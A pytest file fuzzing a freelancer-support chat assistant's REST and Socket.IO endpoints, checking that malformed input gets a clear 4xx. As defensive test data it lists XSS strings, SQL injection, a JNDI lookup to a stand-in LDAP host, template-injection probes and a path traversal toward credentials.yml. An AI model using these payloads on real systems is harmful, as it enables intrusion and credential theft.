"""Hostile and malformed input on the endpoints a client can reach.

The fuzz test sends generated requests to a running assistant: every valid
message must get a reply, every malformed request a 4xx that says what is
wrong, nothing a 5xx, and the server must stay up.
"""

from __future__ import annotations

import json
import random
import time
import uuid
from collections import Counter
from concurrent.futures import ThreadPoolExecutor

import pytest

from channels.validation import MAX_MESSAGE_CHARS, clean_text, client_message
from tests.helpers.conversations import new_conversation, post_json, say
from tests.helpers.servers import local_settings
from tests.helpers.socketio_client import ChatClient
from web.http import MAX_BODY_BYTES, ApiError, parse_json_body

FUZZ_REQUESTS = 1200
FIGURES: dict = {}


# --- the checks themselves, without a server -------------------------------------------


@pytest.mark.parametrize(
    "body, status, says",
    [
        (b"", 400, "empty"),
        (b"   ", 400, "empty"),
        (b"{", 400, "not valid JSON"),
        (b"{'sender': 'x'}", 400, "not valid JSON"),
        (b'{"message": "\xff\xfe"}', 400, "not valid UTF-8"),
        (b"[" * 100_000, 413, "limit"),
        (b"x" * (MAX_BODY_BYTES + 1), 413, "limit"),
    ],
)
def test_bodies_that_are_not_json_are_refused_with_the_reason(body, status, says):
    with pytest.raises(ApiError) as refused:
        parse_json_body(body)
    assert refused.value.status == status
    assert says in refused.value.message


def test_json_nested_too_deeply_is_a_clear_error_not_a_crash():
    with pytest.raises(ApiError) as refused:
        parse_json_body(b"[" * 5000 + b"]" * 5000)
    assert "nested too deeply" in refused.value.message


@pytest.mark.parametrize(
    "data, status, says",
    [
        ([1, 2], 400, "must be a JSON object"),
        ("hello", 400, "must be a JSON object"),
        ({"message": "hi"}, 400, "'sender' is missing"),
        ({"sender": 5, "message": "hi"}, 400, "'sender' must be a string, not a number"),
        ({"sender": "t"}, 400, "'message' is missing"),
        ({"sender": "t", "message": None}, 400, "'message' is missing"),
        ({"sender": "t", "message": 42}, 400, "'message' must be a string, not a number"),
        ({"sender": "t", "message": ["hi"]}, 400, "not an array"),
        ({"sender": "t", "message": {"text": "hi"}}, 400, "not an object"),
        ({"sender": "t", "message": True}, 400, "not a boolean"),
        ({"sender": "t", "message": ""}, 400, "'message' is empty"),
        ({"sender": "t", "message": " \n\t "}, 400, "'message' is empty"),
        ({"sender": "t", "message": "\x00\x07\x1b"}, 400, "'message' is empty"),
        ({"sender": "t", "message": "//"}, 400, "'message' is empty"),
        ({"sender": "t", "message": "\ud800 hi"}, 400, "lone surrogate"),
        ({"sender": "t", "message": "a" * (MAX_MESSAGE_CHARS + 1)}, 413, f"the limit is {MAX_MESSAGE_CHARS}"),
        ({"sender": "t", "message": "hi", "metadata": "x"}, 400, "'metadata' must be a JSON object"),
        ({"sender": "t", "message": "hi", "metadata": {"k": "v" * 5000}}, 413, "'metadata' is"),
    ],
)
def test_malformed_messages_are_refused_with_the_reason(data, status, says):
    with pytest.raises(ApiError) as refused:
        client_message(data, "sender")
    assert refused.value.status == status
    assert says in refused.value.message


@pytest.mark.parametrize(
    "raw, cleaned",
    [
        ("  hello  ", "hello"),
        ("he\x00llo\x1b[31m", "hello[31m"),
        ("line one\nline two", "line one\nline two"),
        ("cafe\u0301", "café"),  # NFC
        ("مرحبا، المستقل لا يرد", "مرحبا، المستقل لا يرد"),
        ("👩‍💻 hi 🙂", "👩‍💻 hi 🙂"),  # the zero-width joiner of the emoji stays
        ("<script>alert(1)</script>", "<script>alert(1)</script>"),  # text, never markup
        ("'; DROP TABLE events; --", "'; DROP TABLE events; --"),
        ("/request_human", "/request_human"),  # a button the assistant offers
        ('/restart{"concern": "x"}', 'restart{"concern": "x"}'),  # no forced intents
        ("/ human please", "human please"),
        ("a" * MAX_MESSAGE_CHARS + "   ", "a" * MAX_MESSAGE_CHARS),
    ],
)
def test_acceptable_messages_are_cleaned_not_refused(raw, cleaned):
    assert clean_text(raw) == cleaned


# --- against a running assistant -----------------------------------------------------


@pytest.fixture(scope="module")
def settings(tmp_path_factory):
    return local_settings(tmp_path_factory.mktemp("state"))


WORDS = (
    "my freelancer stopped answering",
    "what happens if the developer disappears",
    "how do I pause my hourly contract",
    "I want to talk to a human",
    "refund my fees",
    "hello",
    "thanks",
    "asdfgh qwerty",
    "he keeps logging hours on my contract",
)
ODD = (
    "🙂",
    "👩‍💻🚀🔥",
    "مرحبا، المستقل لا يرد منذ أسبوع",
    "שלום, הפרילנסר לא עונה",
    "\u202eevil override\u202c",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "'; DROP TABLE events; --",
    "1 OR 1=1",
    "${jndi:ldap://x/a}",
    "%s %d {0} {{7*7}}",
    '{"sender": "other"}',
    "\x00\x01\x02",
    "\x1b[2J",
    "zero\u200bwidth",
    "e\u0301\u0301\u0301",
    "中文 日本語 한국어",
    "/restart",
    '/request_human{"concern": "conduct"}',
    "/session_start",
    "\t\n\r",
)


def valid_text(rng: random.Random) -> str:
    parts = [rng.choice(WORDS)] + [rng.choice(ODD + WORDS) for _ in range(rng.randint(0, 3))]
    rng.shuffle(parts)
    text = rng.choice([" ", "\n", "  ", ""]).join(parts)
    if not any(ch.isalnum() for ch in text.replace("/", "")):
        text += " hello"
    if rng.random() < 0.05:  # right at the limit, with padding that is trimmed
        text = (text + " ") * (MAX_MESSAGE_CHARS // (len(text) + 1) + 1)
        text = text[:MAX_MESSAGE_CHARS].rstrip() + "x" * (MAX_MESSAGE_CHARS - len(text[:MAX_MESSAGE_CHARS].rstrip()))
        text = "   " + text + "  \n"
    return text


def malformed_request(rng: random.Random, token: str):
    """(raw body, expected status, words the error must contain)."""
    kind = rng.randrange(16)
    if kind == 0:
        return rng.choice([b"{", b"not json", b"{'sender': 1}", b'{"sender": }', b'{"a":1,}']), 400, "not valid JSON"
    if kind == 1:
        # 0xff never occurs in UTF-8
        return b"\xff" + bytes(rng.randrange(128, 256) for _ in range(rng.randint(0, 40))), 400, "not valid UTF-8"
    if kind == 2:
        return b'{"sender": "' + token.encode() + b'", "message": "caf\xe9"}', 400, "not valid UTF-8"
    if kind == 3:
        value = rng.choice([7, 1.5, True, [1], {"t": "hi"}, None])
        return _dump({"sender": token, "message": value}), 400, "'message'"
    if kind == 4:
        value = rng.choice([7, True, ["x"], {"id": token}])
        return _dump({"sender": value, "message": "hi"}), 400, "'sender' must be a string"
    if kind == 5:
        return _dump({"message": "hi"}), 400, "'sender' is missing"
    if kind == 6:
        return _dump({"sender": token}), 400, "'message' is missing"
    if kind == 7:
        blank = rng.choice(["", " ", "\n\t", "\x00\x00", "\u0007", "/", "  //  "])
        return _dump({"sender": token, "message": blank}), 400, "'message' is empty"
    if kind == 8:
        return _dump({"sender": token, "message": "x" * rng.randint(MAX_MESSAGE_CHARS + 1, 3500)}), 413, "limit"
    if kind == 9:
        return b'{"sender": "' + token.encode() + b'", "message": "\\ud83d hi"}', 400, "lone surrogate"
    if kind == 10:
        return _dump({"sender": uuid.uuid4().hex, "message": "hi"}), 403, "not a conversation id this server issued"
    if kind == 11:
        forged = token[:-1] + ("A" if token[-1] != "A" else "B")
        return _dump({"sender": forged, "message": "hi"}), 403, "not a conversation id this server issued"
    if kind == 12:
        return _dump(rng.choice([[token, "hi"], "hi", 42, None])), 400, "must be a JSON object"
    if kind == 13:
        return _dump({"sender": token, "message": "hi", "metadata": rng.choice(["x", [1], 3])}), 400, "'metadata'"
    if kind == 14:
        return b"x" * (MAX_BODY_BYTES + rng.randint(1, 5000)), 413, "limit"
    return rng.choice([b"", b"  ", b"\n"]), 400, "empty"


def _dump(value) -> bytes:
    return json.dumps(value).encode()


@pytest.mark.e2e
def test_fuzz_no_5xx_every_valid_message_answered_every_malformed_one_told_why(assistant, settings):
    rng = random.Random(20261125)  # noqa: S311 - a repeatable test sequence, not a secret
    url = f"{settings.rasa_url}/webhooks/rest/webhook"
    token = new_conversation(settings.rasa_url)
    cases = []
    for _ in range(FUZZ_REQUESTS):
        if rng.random() < 0.55:
            cases.append(("valid", valid_text(rng), None, None))
        else:
            cases.append(("malformed", *malformed_request(rng, token)))

    def run(case):
        kind, payload, status, says = case
        if kind == "valid":
            conversation = new_conversation(settings.rasa_url)
            got, body = post_json(url, {"sender": conversation, "message": payload})
            return kind, payload, got, body, 200, None
        got, body = post_json(url, raw=payload)
        return kind, payload, got, body, status, says

    started = time.monotonic()
    with ThreadPoolExecutor(max_workers=4) as pool:
        results = list(pool.map(run, cases))
    seconds = time.monotonic() - started

    problems = []
    statuses: Counter = Counter()
    held: Counter = Counter()
    for kind, payload, got, body, expected, says in results:
        statuses[got] += 1
        if kind == "valid":
            ok = got == 200 and body and all(r.get("text") or r.get("buttons") for r in body)
        else:
            ok = got == expected and isinstance(body, dict) and says in body.get("error", "")
        held[kind] += bool(ok)
        if not ok:
            problems.append(f"{kind} {payload!r:.80} -> {got} {body!r:.200}, wanted {expected or 200} {says or ''}")
    total = Counter(c[0] for c in cases)
    FIGURES.update(
        {
            "fuzz requests": len(cases),
            "fuzz valid messages answered": f"{held['valid']}/{total['valid']}",
            "fuzz malformed requests given the right 4xx and reason": f"{held['malformed']}/{total['malformed']}",
            "fuzz responses 5xx": sum(n for s, n in statuses.items() if s >= 500),
            "fuzz seconds (4 clients)": round(seconds, 1),
        }
    )
    assert not problems, f"{len(problems)} problems, first ones:\n" + "\n".join(problems[:15])
    # the server is still up and still makes sense
    assert assistant.processes["rasa"].poll() is None
    replies = say(settings.rasa_url, new_conversation(settings.rasa_url), "what if my freelancer ghosts me?")
    assert "If at any point you have any concerns" in replies[0]["text"]


@pytest.mark.e2e
@pytest.mark.parametrize(
    "method, path, status",
    [
        ("GET", "/webhooks/rest/webhook", 405),
        ("PUT", "/webhooks/rest/conversations", 405),
        ("GET", "/chat/static/../../credentials.yml", 404),
        ("GET", "/chat/static/%00", 404),
        ("GET", "/no/such/page", 404),
    ],
)
def test_odd_requests_to_the_client_endpoints_get_a_4xx(assistant, settings, method, path, status):
    import urllib.error
    import urllib.request

    req = urllib.request.Request(settings.rasa_url + path, method=method, data=b"" if method != "GET" else None)
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(req, timeout=30)
    assert refused.value.code == status


@pytest.mark.e2e
async def test_socketio_refuses_malformed_messages_and_says_why(assistant, settings):
    client = ChatClient(settings.rasa_url, timeout=30, confirm_timeout=30)
    await client.connect()
    try:
        await client.say("hi", session_id="x")
        kind, data = await client.next_event()
        assert kind == "rejected" and data["status"] == 400 and "session_request first" in data["error"]

        token = await client.request_session("not an object")
        cases = [
            ("just text", 400, "must be a JSON object"),
            ({"session_id": token}, 400, "'message' is missing"),
            ({"session_id": token, "message": 12}, 400, "not a number"),
            ({"session_id": token, "message": "   "}, 400, "'message' is empty"),
            ({"session_id": token, "message": "y" * 5000}, 413, "limit"),
            ({"message": "hi"}, 400, "'session_id' is missing"),
            ({"session_id": uuid.uuid4().hex, "message": "hi"}, 403, "not the conversation"),
        ]
        for data, status, says in cases:
            await client.emit("user_uttered", data)
            kind, answer = await client.next_event()
            assert kind == "rejected" and answer["status"] == status and says in answer["error"], (data, answer)
        # and a proper message still gets its reply on the same connection
        await client.say("<b>hi</b> 🙂 مرحبا")
        kind, answer = await client.next_event()
        assert kind == "bot" and answer["text"]
    finally:
        await client.close()
